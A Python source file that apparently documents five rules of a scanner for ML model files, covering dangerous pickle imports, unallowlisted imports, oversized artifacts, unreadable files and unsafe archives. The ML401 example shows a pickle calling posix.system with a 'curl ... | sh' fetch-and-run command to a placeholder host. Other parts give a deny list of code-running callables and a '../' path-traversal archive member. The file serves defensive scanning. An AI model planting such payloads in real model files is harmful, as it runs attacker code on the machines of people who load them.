"""ML401-ML405: the model-file rules (documentation; the scanner is in this package)."""

from __future__ import annotations

from mlvet.registry import Rule

_DOC = "docs/model-files.md"

RULES: list[Rule] = [
    Rule(
        code="ML401",
        name="malicious-pickle-import",
        severity="error",
        summary="a model file's pickle imports a callable that runs code or touches the "
        "system (os.system, builtins.eval, subprocess.*, ...), or a Keras config carries "
        "a Lambda layer or an arbitrary module import",
        what=(
            "Reads every pickle stream in a model or data file (raw pickles, PyTorch zip "
            "and legacy checkpoints, joblib dumps, `.npy`/`.npz` object arrays, pickles "
            "nested in pickles) at the opcode level, without loading it, and reports "
            "imports of callables that can run code or reach the operating system: `os`, "
            "`subprocess`, `builtins.eval`/`exec`/`getattr`/`__import__`/`open`, `runpy`, "
            "`importlib`, `socket`, `shutil`, `sys`, `pickle.loads`, `operator.attrgetter` "
            "and friends, code-object constructors, and so on. Keras `.keras` and `.h5` "
            "configs with `Lambda` layers or `module` entries naming such code are "
            "reported too."
        ),
        why=(
            "Unpickling calls whatever the stream imports, with arguments of the stream's "
            "choosing: `torch.load`, `joblib.load`, `pickle.load` or `np.load(..., "
            "allow_pickle=True)` on such a file runs the attacker's command on the machine "
            "that loads it. A Keras Lambda layer carries marshalled Python bytecode that "
            "runs when the model is built."
        ),
        bad=(
            "model.pt: a zip whose archive/data.pkl holds\n"
            "  GLOBAL 'posix system'  (S'curl http://evil.example/x | sh' tR)\n"
            "=> ML401 model.pt: pickle imports callables that can run code: "
            "posix.system [archive/data.pkl]"
        ),
        good=(
            "model.pt: a zip whose archive/data.pkl imports only\n"
            "  collections.OrderedDict, torch._utils._rebuild_tensor_v2, torch.FloatStorage\n"
            "or the same weights saved as model.safetensors"
        ),
        fix="Do not load this file. Re-create it from trusted code, or publish weights as "
        "safetensors; load PyTorch files with torch.load(..., weights_only=True).",
        references=(
            "https://docs.python.org/3/library/pickle.html#restricting-globals",
            "https://pytorch.org/docs/stable/generated/torch.load.html",
            "https://huggingface.co/docs/hub/security-pickle",
            _DOC,
        ),
        example_kind="none",
        security_severity=9.8,
        tags=("security", "model-file"),
    ),
    Rule(
        code="ML402",
        name="unknown-pickle-import",
        severity="warning",
        summary="a model file's pickle imports something outside the allowlist of "
        "known-safe globals (or hides an import behind a copyreg extension code)",
        what=(
            "Reports pickle imports that are neither known dangerous nor on the allowlist "
            "of known-safe globals: torch tensor and storage rebuilders and dtypes, numpy "
            "arrays, dtypes and scalars, `collections.OrderedDict`, `_codecs.encode`, "
            "joblib's array wrapper, common scikit-learn, XGBoost and LightGBM estimator "
            "classes. Extension-registry opcodes (EXT1/EXT2/EXT4), which import through a "
            "number instead of a name, are reported with their code. Extend the allowlist "
            "with `allowed-pickle-globals` in `[tool.mlvet]`."
        ),
        why=(
            "Every import in a pickle is a callable the loader will run. One outside the "
            "known-safe set may be harmless (your own class) or a gadget that reaches code "
            "execution; a reviewer should decide, and then allowlist it."
        ),
        bad=(
            "classifier.pkl imports mypackage.features.Extractor and functools.partial\n"
            "=> ML402 classifier.pkl: pickle imports outside the allowlist: "
            "functools.partial, mypackage.features.Extractor"
        ),
        good=(
            '[tool.mlvet]\nallowed-pickle-globals = ["mypackage.features.*", "functools.partial"]'
        ),
        fix="Review the listed imports; if they are yours and safe, add them to "
        '`allowed-pickle-globals` ("module.name" or "module.*"), or re-save the model '
        "in a format without code (safetensors, ONNX, JSON).",
        references=(
            "https://pytorch.org/docs/stable/notes/serialization.html#weights-only",
            _DOC,
        ),
        example_kind="none",
        security_severity=5.0,
        tags=("security", "model-file"),
    ),
    Rule(
        code="ML403",
        name="large-artifact",
        severity="warning",
        summary="a model/data file over `max-artifact-size` (default 10 MB) that Git LFS "
        "does not track",
        what=(
            "Reports files larger than `max-artifact-size` (default 10 MB) unless Git LFS "
            "tracks them (`git check-attr filter` says `lfs`). Outside a git repository "
            "nothing is LFS-tracked."
        ),
        why=(
            "Large binaries committed to git bloat every clone forever, even after they "
            "are deleted; Git LFS or an artifact store keeps the repository small."
        ),
        bad=(
            "weights/model.bin (420 MB), no .gitattributes rule\n"
            "=> ML403 weights/model.bin: 420.0 MiB file is not tracked by Git LFS "
            "(limit 10.0 MiB)"
        ),
        good=(".gitattributes:\n*.bin filter=lfs diff=lfs merge=lfs -text"),
        fix="Track it with Git LFS (`git lfs track '*.bin'`), store it outside the "
        "repository, or raise `max-artifact-size`.",
        references=("https://git-lfs.com/", _DOC),
        example_kind="none",
        tags=("model-file",),
    ),
    Rule(
        code="ML404",
        name="unscannable-artifact",
        severity="warning",
        summary="a model file that cannot be read (corrupt, truncated, unknown opcode or "
        "format); Git LFS pointer stubs are fine",
        what=(
            "Reports files that look like model artifacts, by extension or by their first "
            "bytes, but cannot be read: truncated or malformed pickles, unknown opcodes, "
            "corrupt zips, bad `.npy` headers, safetensors headers that overrun the file, "
            "malformed ONNX protobuf. Imports found before the damage are still reported. "
            "A Git LFS pointer stub is recognised and is not an error."
        ),
        why=(
            "A file the scanner cannot read is a file nobody has vetted. Unpickling runs "
            "opcodes as it reads them, so a stream that breaks halfway has already run "
            "what came before the break; deliberately malformed streams are a known way "
            "to slip past scanners."
        ),
        bad=(
            "model.pkl truncated in the middle of an opcode\n"
            "=> ML404 model.pkl: unreadable pickle file: pickle stream: truncated: the stream "
            "ends at byte 4096 before its STOP opcode"
        ),
        good=(
            "model.pkl as a Git LFS pointer:\n"
            "version https://git-lfs.github.com/spec/v1\n"
            "oid sha256:...\n"
            "size 12345"
        ),
        fix="Re-download or re-create the file; if it is not a model, rename it or exclude "
        "it from the scan.",
        references=(_DOC,),
        example_kind="none",
        security_severity=4.0,
        tags=("security", "model-file"),
    ),
    Rule(
        code="ML405",
        name="unsafe-archive",
        severity="error",
        summary="a zip/tar member with an absolute or `..` path, a decompression bomb, or "
        "ONNX external data that escapes the model's folder",
        what=(
            "Reports zip and tar members whose names are absolute or climb out with `..`, "
            "tar links that point outside the archive, members whose declared size or "
            "compression ratio is absurd (decompression bombs), overlapping zip entries, "
            "and ONNX tensors whose external-data `location` is absolute or leaves the "
            "model's folder."
        ),
        why=(
            "Extracting such an archive writes outside the target folder (path traversal) "
            "or exhausts disk and memory; an ONNX model with escaping external-data paths "
            "makes the loader read arbitrary files from the machine."
        ),
        bad=(
            "checkpoint.zip holding '../../.bashrc'\n"
            "=> ML405 checkpoint.zip: unsafe archive: member '../../.bashrc' climbs out "
            "of the archive with '..'"
        ),
        good="checkpoint.zip holding 'checkpoint/data.pkl' and 'checkpoint/data/0'",
        fix="Do not extract or load this archive; re-create it from trusted files.",
        references=(
            "https://docs.python.org/3/library/zipfile.html#zipfile-resources-limitations",
            "https://onnx.ai/onnx/repo-docs/ExternalData.html",
            _DOC,
        ),
        example_kind="none",
        security_severity=8.1,
        tags=("security", "model-file"),
    ),
]
